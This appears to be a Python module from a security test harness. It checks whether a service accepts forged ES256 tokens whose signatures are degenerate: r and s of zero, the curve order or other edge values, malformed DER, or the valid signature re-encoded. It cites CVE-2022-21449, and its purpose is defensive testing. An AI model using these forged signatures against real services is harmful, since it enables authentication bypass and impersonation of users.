"""Degenerate ECDSA signatures, such as r = s = 0."""

from ..attack import Attack
from ..attacker import Attacker
from ..forge import P256_ORDER as ORDER
from ..forge import decode, encode, header_of, segment
from ..verdict import Verdict, held, succeeded

PRIME = 2**256 - 2**224 + 2**192 + 2**96 - 1
EDGES = (0, 1, ORDER - 1, ORDER, ORDER + 1, PRIME, PRIME - ORDER, 2**256 - 1)


def _run(attacker: Attacker) -> Verdict:
    target = attacker.target
    target.require_tokens()
    login = target.log_in()
    head, payload, signature = login.credential.split(".")
    own = header_of(login.credential)
    heads = (head, segment(own | {"alg": "ES256"}))
    signatures = [*_degenerate(), *_respelled(decode(signature))]
    for start in heads:
        for raw in signatures:
            answer = target.me(login, f"{start}.{payload}.{encode(raw)}")
            if answer.accepted:
                return succeeded(f"A token with the signature {raw[:8].hex()}... was accepted.")
            if answer.status >= 500:
                raise AssertionError(f"a signature broke the server: {answer.status}")
    return held(f"None of {len(signatures)} degenerate signatures was accepted.")


def _degenerate() -> list[bytes]:
    pairs = [r.to_bytes(32, "big") + s.to_bytes(32, "big") for r in EDGES for s in EDGES]
    der = [bytes.fromhex(text) for text in ("3006020100020100", "3006020101020101", "3000")]
    return [*pairs, *der, bytes(96), bytes(63), bytes(65), bytes(132), b"\0"]


def _respelled(raw: bytes) -> list[bytes]:
    """The valid signature in other encodings: halves swapped, padded, cut and in DER."""
    r, s = raw[:32], raw[32:]
    der = b"\x02\x21\x00" + r + b"\x02\x21\x00" + s
    texts = [s + r, raw + b"\0", b"\0" + raw, r + bytes(32), bytes(32) + s, b"\x30\x46" + der]
    return [text for text in texts if text != raw]


ATTACK = Attack(
    id="forged-zeros",
    title="Signatures of zeros",
    story="An attacker writes any token and signs it with zeros, or with the order of the curve."
    " A library that does not check the range of r and s finds that the equation holds. The"
    " attacker is whoever the token names.",
    references=("CVE-2022-21449", "CWE-347", "ASVS V11.2.1"),
    defences=("signatures of tokens are verified",),
    run=_run,
)
